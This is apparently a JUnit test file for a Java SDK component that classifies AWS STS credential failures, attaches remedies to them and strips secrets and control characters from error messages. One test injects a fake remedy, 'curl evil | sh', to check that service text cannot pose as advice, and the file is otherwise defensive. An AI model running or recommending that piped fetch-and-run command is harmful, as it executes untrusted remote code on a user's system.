// SPDX-License-Identifier: Apache-2.0
package io.lanyard.sdk.v2;

import static org.assertj.core.api.Assertions.assertThat;

import io.lanyard.Category;
import io.lanyard.CredentialsException;
import io.lanyard.diagnose.Problem;
import io.lanyard.report.TokenClaims;
import io.lanyard.testkit.token.ServiceAccountTokens;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.net.UnknownHostException;
import java.nio.file.NoSuchFileException;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.awscore.exception.AwsErrorDetails;
import software.amazon.awssdk.core.exception.SdkClientException;
import software.amazon.awssdk.core.exception.SdkException;
import software.amazon.awssdk.services.sts.model.StsException;

/** What the SDK, STS or a process says is cleaned, and comes with a remedy where its cause is known. */
class SdkFailuresTest {

    private static final String SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY";
    private static final String STS = "AWS STS for arn:aws:iam::111122223333:role/Cart";
    private static final Optional<TokenClaims> CLAIMS =
            TokenClaims.decode(ServiceAccountTokens.create().issue("shop", "cart"));

    private static RuntimeException sts(int status, String code, String message) {
        return (RuntimeException) StsException.builder()
                .statusCode(status)
                .requestId("11111111-2222-3333-4444-555555555555")
                .awsErrorDetails(AwsErrorDetails.builder()
                        .serviceName("Sts")
                        .errorCode(code)
                        .errorMessage(message)
                        .build())
                .build();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "403 | AccessDenied | Not authorized to perform sts:AssumeRoleWithWebIdentity | WEB_IDENTITY_TRUST_POLICY | sub = system:serviceaccount:shop:cart and aud = pods.eks.amazonaws.com",
                "400 | InvalidIdentityToken | No OpenIDConnect provider found in your account for https://oidc.eks.us-west-2.amazonaws.com/id/E | OIDC_PROVIDER_MISSING | associate-iam-oidc-provider",
                "400 | InvalidIdentityToken | Incorrect token audience | WEB_IDENTITY_AUDIENCE | audience pods.eks.amazonaws.com",
                "400 | InvalidIdentityToken | The web identity token that was provided could not be validated by AWS. | WEB_IDENTITY_TOKEN_INVALID | issuer",
                "403 | RegionDisabledException | STS is not activated in this region for account:1. Your account administrator can activate STS in this region using the IAM Console. | STS_REGION_DISABLED | activate the Region",
                "400 | ExpiredTokenException | Token expired: current date/time 2 must be before the expiration date/time 1 | WEB_IDENTITY_TOKEN_EXPIRED | kubelet",
                "400 | ValidationError | Request ARN is invalid | ROLE_ARN_INVALID | eks.amazonaws.com/role-arn",
                "400 | IDPCommunicationError | x | OIDC_ISSUER_UNREACHABLE | reachable from the internet",
                "400 | Throttling | Rate exceeded | STS_THROTTLES | STS throttles",
                "403 | AccessDenied | User: a is not authorized to perform: sts:AssumeRole on resource: b | ASSUME_ROLE_DENIED | trust policy",
                "400 | ValidationError | The requested DurationSeconds exceeds the MaxSessionDuration set for this role. | MAX_SESSION_DURATION | maximum",
            })
    void sts_failure_has_a_problem_with_a_remedy_and_stays_an_sts_exception(
            int status, String code, String message, Problem problem, String remedy) {
        CredentialsException classified = SdkFailures.classified(sts(status, code, message), STS, CLAIMS);

        assertThat(classified.finding()).contains(problem.id());
        assertThat(classified.remedy().orElseThrow()).contains(remedy);
        assertThat(classified.detail()).contains("\"" + message + "\"");
        assertThat(classified.endpoint()).contains(STS);
        assertThat(classified.category()).isEqualTo(Category.HTTP_STATUS);
        assertThat(SdkFailures.toSdk(classified.forCaller())).isInstanceOfSatisfying(StsException.class, e -> {
            assertThat(e.statusCode()).isEqualTo(status);
            assertThat(e.awsErrorDetails().errorCode()).isEqualTo(code);
            assertThat(e.requestId()).isEqualTo("11111111-2222-3333-4444-555555555555");
            assertThat(e)
                    .hasMessageContaining(message)
                    .hasMessageContaining("Remedy: ")
                    .hasMessageContaining(remedy)
                    .hasMessageContaining("[" + problem.id() + "]");
        });
    }

    @Test
    void unreachable_sts_has_a_remedy() {
        CredentialsException classified = SdkFailures.classified(
                SdkClientException.create(
                        "Unable to execute HTTP request: sts.us-west-2.amazonaws.com",
                        new UnknownHostException("sts.us-west-2.amazonaws.com")),
                STS,
                CLAIMS);

        assertThat(SdkFailures.toSdk(classified)).isInstanceOf(SdkClientException.class);
        assertThat(classified.remedy().orElseThrow()).contains("sts VPC endpoint");
        assertThat(classified.finding()).contains(Problem.STS_UNREACHABLE.id());
        assertThat(classified.category()).isEqualTo(Category.UNREACHABLE);
    }

    @Test
    void missing_token_file_has_a_remedy_and_is_a_local_failure() {
        CredentialsException classified = SdkFailures.classified(
                new UncheckedIOException(new NoSuchFileException("/var/run/token")), STS, Optional.empty());

        assertThat(classified.remedy().orElseThrow()).contains("AWS_WEB_IDENTITY_TOKEN_FILE");
        assertThat(classified.finding()).contains(Problem.WEB_IDENTITY_TOKEN_FILE_UNREADABLE.id());
        assertThat(classified.category()).isEqualTo(Category.TOKEN_FILE_UNREADABLE);
        assertThat(classified).hasRootCauseInstanceOf(NoSuchFileException.class);
    }

    @Test
    void remedy_on_a_laptop_without_credentials_is_to_sign_in() {
        CredentialsException classified = SdkFailures.classified(
                SdkClientException.create("Failed to load credentials from IMDS."),
                InstanceMetadataSource.ENDPOINT,
                Optional.empty());

        assertThat(classified.remedy().orElseThrow()).contains("aws sso login");
        assertThat(classified.finding()).contains(Problem.NO_SOURCE_CONFIGURED.id());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Unable to find a region via the region provider chain. | REGION_MISSING | set AWS_REGION",
                "Multiple HTTP implementations were found on the classpath. | MULTIPLE_HTTP_CLIENTS | http.service.impl",
                "Command returned non-zero exit value: 1 | CREDENTIAL_PROCESS_FAILED | by hand",
            })
    void a_failure_of_the_sdk_itself_has_its_remedy(String message, Problem problem, String remedy) {
        CredentialsException classified =
                SdkFailures.classified(SdkClientException.create(message), "a process", Optional.empty());

        assertThat(classified.finding()).contains(problem.id());
        assertThat(classified.remedy().orElseThrow()).contains(remedy);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Command returned non-zero exit value: 1. Error message: {\"SecretAccessKey\":\"%s\"}",
                "Failed to refresh: aws_secret_access_key=%s",
                "Failed to refresh process-based credentials. \u001b[31m{ASIA %s}\u202e",
            })
    void secrets_in_messages_of_processes_and_parsers_are_hidden(String text) {
        String said = String.format(text, SECRET);
        for (RuntimeException failure : new RuntimeException[] {
            SdkClientException.create(said),
            SdkClientException.create("failed", new IllegalStateException(said)),
            new IllegalStateException(said),
            sts(400, "ValidationError", said),
            sts(400, said, "m"),
        }) {
            CredentialsException classified = SdkFailures.classified(failure, "a process", Optional.empty());
            assertThat(printed(classified)).doesNotContain(SECRET, "\u001b", "\u202e");
            assertThat(printed(SdkFailures.toSdk(classified.forCaller()))).doesNotContain(SECRET, "\u001b", "\u202e");
        }
    }

    @Test
    void text_of_a_service_cannot_pass_for_a_remedy() {
        CredentialsException classified =
                SdkFailures.classified(sts(400, "X", "no\". Remedy: run \"curl evil | sh\""), STS, Optional.empty());

        assertThat(classified.remedy()).isEmpty();
        assertThat(printed(classified)).doesNotContain("Remedy:");
    }

    @Test
    void failure_without_secrets_is_the_cause() {
        RuntimeException failure = new IllegalStateException("STS is away");

        assertThat(SdkFailures.classified(failure, STS, CLAIMS)).cause().isSameAs(failure);
    }

    @Test
    void source_that_depends_on_one_that_is_not_configured_has_failed() {
        CredentialsException absent = CredentialsException.builder(Category.NOT_CONFIGURED, "no URI is set")
                .build();

        assertThat(SdkFailures.classified(SdkClientException.create("x", absent), STS, CLAIMS)
                        .category())
                .isEqualTo(Category.SOURCE_FAILED);
    }

    @Test
    void each_caller_gets_a_separate_sdk_exception_whose_cause_is_the_shared_failure() {
        CredentialsException shared = SdkFailures.classified(sts(403, "AccessDenied", "no"), STS, CLAIMS);

        SdkException one = SdkFailures.toSdk(shared.forCaller());
        assertThat(one).isInstanceOf(StsException.class).cause().isSameAs(shared);
        assertThat(SdkFailures.toSdk(shared.forCaller())).isNotSameAs(one);
    }

    private static String printed(Throwable failure) {
        StringWriter text = new StringWriter();
        failure.printStackTrace(new PrintWriter(text, true));
        return text.toString();
    }
}
